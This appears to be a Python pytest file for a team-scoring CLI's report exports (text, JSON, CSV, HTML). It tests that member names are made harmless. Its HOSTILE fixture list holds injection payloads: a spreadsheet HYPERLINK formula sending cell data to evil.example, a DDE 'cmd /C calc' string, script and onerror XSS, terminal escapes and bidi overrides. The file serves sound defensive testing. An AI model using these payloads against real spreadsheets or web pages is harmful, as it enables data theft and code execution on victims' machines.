"""`pillarscore team` as a lead runs it, on files; hostile names are harmless in every form."""

import csv
import html
import io
import json
import re
from html.parser import HTMLParser

import pytest
from typer.testing import CliRunner

from agents.cli import _run, app
from agents.screens.scores_export import harmless
from tests.kit.files import event, ndjson, small_rubric

NOW, OLD = "2025-11-20T12:00:00Z", "2025-11-10T12:00:00Z"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{x}%s",
    "\x1b]0;owned\x07",
    "\u202egnp.exe",
    "line\nbreak,and;more",
    "\u05d0\u05d1",
    "</style></title>",
    "\u2066\u200b\ufeff",
]
TEAM = "<b>Sales & \u202eCo</b>"
VOID = {"meta", "link", "img", "br", "input"}


def on(team, who, recent, old=0):
    """Who is in a team, with so many posts of today and of ten days ago."""
    yield event("member.updated", f"{who} is", who, OLD, team=team)
    for n in range(recent):
        yield event("post.published", f"{who} new {n}", who, NOW)
    for n in range(old):
        yield event("session.started", f"{who} old {n}", who, OLD)


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.setenv("PILLARSCORE_RUBRIC", str(small_rubric(tmp_path)))
    monkeypatch.chdir(tmp_path)
    made = [*on("EMEA sales", "ada", 3, 1), *on("EMEA sales", "bob", 0, 4), *on("EMEA sales", "cyd", 4)]
    made += [*on("EMEA sales", "dan", 0, 2), *on("EMEA sales", "eve", 2, 2), *on("four", "fay", 1)]
    (tmp_path / "events.ndjson").write_bytes(ndjson([*made, *on("", "gus", 1)]))
    hostile = [line for at, name in enumerate(HOSTILE) for line in on(TEAM, name, at % 5, 1)]
    (tmp_path / "hostile.ndjson").write_bytes(ndjson(hostile))
    return tmp_path


def team(*arguments, **more):
    called = ["team", *map(str, arguments), "--as-of", "2025-11-20"]
    result = CliRunner().invoke(app, called, catch_exceptions=False, **more)
    assert result.exit_code == 0, result.output
    return result


def complaint(capsys, *arguments):
    assert _run(["team", *map(str, arguments)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    (line,) = err.splitlines()
    return line.removeprefix("pillarscore: ")


def test_members_are_ranked_and_level_ones_share_a_place(here):
    said = team("EMEA sales", "events.ndjson")
    assert (
        said.stdout
        == """\
rank  member  score  brand   find  engage  relate  band  weakest  change
   1  ada     10.00   7.50   2.50    0.00    0.00  low   engage    +7.50
   1  bob     10.00   0.00  10.00    0.00    0.00  low   brand      0.00
   1  cyd     10.00  10.00   0.00    0.00    0.00  low   find     +10.00
   1  eve     10.00   5.00   5.00    0.00    0.00  low   engage    +5.00
   5  dan      5.00   0.00   5.00    0.00    0.00  low   brand      0.00
EMEA sales: 5 members as of 2025-11-20 by small 3
average 9.00, median 10.00; brand 4.50, find 4.50, engage 0.00, relate 0.00
weakest pillar: engage
bands: 5 low, 0 middle, 0 high, 0 top
over a week: 3 rose, 0 fell; +4.50 on average
largest gains: cyd +10.00, ada +7.50, eve +5.00
"""
    )
    assert said.stderr.startswith("From 27 events read: ")


def test_a_team_is_shown_from_standard_input_too(here):
    data = (here / "events.ndjson").read_bytes()
    assert team("four", "-", input=data).stdout.splitlines()[1].split()[:3] == ["1", "fay", "2.50"]


def test_who_had_no_score_a_week_ago_has_no_change(here):
    (here / "new.ndjson").write_bytes(ndjson([event("member.updated", "1", "zoe", NOW, team="EMEA sales")]))
    report = json.loads(team("EMEA sales", "events.ndjson", "new.ndjson", "--json").stdout)
    assert [one["change"] for one in report["members"]] == [750, 0, 1000, 500, 0, None]
    assert (report["summary"]["members"], report["summary"]["compared"]) == (6, 5)
    assert report["summary"]["change"] == 450
    assert "of 5 with a score a week ago" in team("EMEA sales", "events.ndjson", "new.ndjson").stdout


def test_the_list_hides_the_averages_of_small_teams(here):
    said = team("--list", "events.ndjson")
    assert said.stdout.splitlines() == [
        "team        members  average",
        "EMEA sales        5     9.00",
        "four              1        ·",
    ]
    assert said.stderr.startswith(
        "2 teams; 1 with fewer than 5 members, shown without an average (27 events read: "
    )
    assert json.loads(team("--list", "events.ndjson", "--json").stdout) == [
        {"team": "EMEA sales", "members": 5, "mean": 900},
        {"team": "four", "members": 1, "mean": None},
    ]


def test_a_team_that_is_not_there_is_one_line(here, capsys):
    message = complaint(capsys, "emea Sale\x1b[2J", "events.ndjson", "--as-of", "2025-11-20")
    assert message.startswith(
        "Team emea Sale\\x1b[2J has no members on that day; did you mean EMEA sales? (27 events"
    )
    assert "Team has no members on that day" in complaint(capsys, "", "events.ndjson")
    assert "did you mean" not in complaint(capsys, "events.ndjson", "events.ndjson")


def test_what_cannot_be_is_told(here, capsys):
    assert "--json and --csv -" in complaint(capsys, "x", "events.ndjson", "--json", "--csv", "-")
    assert "need a TEAM" in complaint(capsys, "--list", "events.ndjson", "--html", "x.html")
    assert "can't be written" in complaint(
        capsys, "four", "events.ndjson", "--as-of", "2025-11-20", "--html", here / "no" / "x.html"
    )
    assert complaint(capsys, "four", "--as-of", "2025-11-20").startswith("--as-of needs FILE")


def test_csv_has_everybody_and_no_formulas(here):
    said = team(TEAM, "hostile.ndjson", "--csv", "-", "--limit", 1)
    rows = list(csv.DictReader(io.StringIO(said.stdout, newline="")))
    assert len(rows) == len(HOSTILE)
    assert said.stdout.count("\n") == len(HOSTILE) + 1, "one line each"
    head = "place,member,score,brand,find,engage,relate,band,weakest,change\n"
    assert said.stdout.startswith(head)
    for row in rows:
        assert row["member"].lstrip()[:1] not in "=+-@＝"
        assert row["member"].isprintable()
        assert all(re.fullmatch(r"-?\d+\.\d\d", row[name]) for name in ("score", "brand", "find", "change"))
    assert {row["member"] for row in rows} >= {"'-2", "'@SUM(A1)", "\\t=1", "' =1", "\u05d0\u05d1", "{x}%s"}
    team(TEAM, "hostile.ndjson", "--csv", "out.csv")
    assert (here / "out.csv").read_text() == said.stdout


def test_plain_names_are_left_as_they_are():
    assert [harmless(name) for name in ("m-1", "Zoë", "a=b", "")] == ["m-1", "Zoë", "a=b", ""]


class Page(HTMLParser):
    """What a browser would see of a page: elements in balance, their attributes, and the text."""

    def __init__(self, text):
        super().__init__()
        self.open, self.tags, self.attributes, self.names = [], set(), [], []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        if self.open and self.open[-1] == "bdi":
            self.names.append(data)


def test_the_page_stands_alone_and_names_stay_text(here):
    said = team(TEAM, "hostile.ndjson", "--html", "team.html")
    assert all(line.isprintable() for line in said.stdout.splitlines())
    text = (here / "team.html").read_text()
    assert "\x1b" not in text
    assert "\u202e" not in text
    page = Page(text)
    assert not page.tags & {"script", "img", "link", "iframe", "object", "form", "a"}
    assert {name for name, _ in page.attributes} <= {
        "lang", "charset", "http-equiv", "content", "name", "class", "id", "style", "scope", "datetime",
        "aria-label", "aria-labelledby", "aria-hidden",
    }  # fmt: skip
    assert "url(" not in text
    assert "default-src 'none'" in text
    assert page.names[0] == "<b>Sales & \\u202eCo</b>"
    assert set(page.names) >= {"<script>alert(1)</script>", "</style></title>", "\\x1b]0;owned\\x07"}
    # members stand in a table that says what its rows and columns are
    assert text.count('<th scope="row">') == len(HOSTILE)
    assert text.count('<th scope="col"') == 9
    for wanted in ("prefers-color-scheme: dark", "@media print", '<html lang="en">', "<caption>"):
        assert wanted in text


def test_the_page_shows_the_best_and_says_so(here):
    team("EMEA sales", "events.ndjson", "--html", "team.html", "--limit", 2)
    text = (here / "team.html").read_text()
    assert "the best 2 of 5" in text
    assert re.findall(r'<th scope="row"><bdi>(.*?)</bdi>', text) == ["ada", "bob"]
    assert "<strong>9.00</strong>" in text, "numbers are of all"
    assert html.unescape(text).count("▲ </span>+10.00") == 1, "cyd, among who rose most"


def test_json_has_names_as_they_are(here):
    report = json.loads(team(TEAM, "hostile.ndjson", "--json").stdout)
    assert report["team"] == TEAM
    assert {one["member"] for one in report["members"]} == set(HOSTILE)
    assert report["as_of"] == "2025-11-20"
